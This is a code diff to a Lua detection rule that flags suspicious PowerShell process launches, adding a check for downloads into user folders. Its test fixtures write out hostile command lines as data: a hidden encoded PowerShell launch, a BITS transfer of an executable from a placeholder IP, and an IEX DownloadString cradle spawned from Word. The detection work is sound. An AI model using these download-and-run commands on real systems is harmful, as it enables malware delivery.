@@ -5,6 +5,7 @@ local lineage = require "kaiseki.lineage"
 local memory = require "kaiseki.memory"
 local say = require "kaiseki.say"
 local trusted = require "kaiseki.trusted"
+local windows = require "kaiseki.windows"
 
 -- How management agents get a script past quoting; of the sample's tree it is another matter.
 local ENCODED = "an encoded command"
@@ -41,12 +42,15 @@ local function is_hidden(each)
     return value ~= nil and (value:lower():find "^h" ~= nil or value == "1")
 end
 
-local function suspicion(each)
+local function suspicion(each, case)
     if each.program ~= "powershell" and each.program ~= "pwsh" then return nil end
     if is_encoded(each) then return ENCODED end
     local runs, downloads = holds(each.folded, RUNS), holds(each.folded, DOWNLOADS)
     if runs and downloads then return "what it downloads" end
     if is_hidden(each) and (runs or downloads) then return "a hidden command" end
+    if downloads and windows.has_url(each.folded) and windows.in_user_place(each.text, case) then
+        return "a download"
+    end
     return nil
 end
 
@@ -63,7 +67,7 @@ rule {
     author = "kaiseki",
     match = operation:is "Process Create" & child.command_line:contains { "powershell", "pwsh" },
     on_event = function(event, case)
-        local what = command.first(event.child.command_line, suspicion)
+        local what = command.first(event.child.command_line, function(each) return suspicion(each, case) end)
         if not what then return end
         local process, list = lineage.requester(event.process), told(case)
         list[#list + 1] = { process = process, what = what }
@@ -84,6 +88,10 @@ rule {
             { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
               ["process.name"] = "a.exe",
               ["child.command_line"] = "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA" },
+            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
+              ["process.name"] = "a.exe",
+              ["child.command_line"] =
+                  [[powershell Start-BitsTransfer -Source http://203.0.113.5/a -Destination C:\ProgramData\a.exe]] },
             { operation = "Process Create", path = [[C:\Windows\System32\cmd.exe]], ["process.name"] = "winword.exe",
               ["child.command_line"] =
                   [[cmd /c powershell "IEX (New-Object Net.WebClient).DownloadString('http://x')"]] },
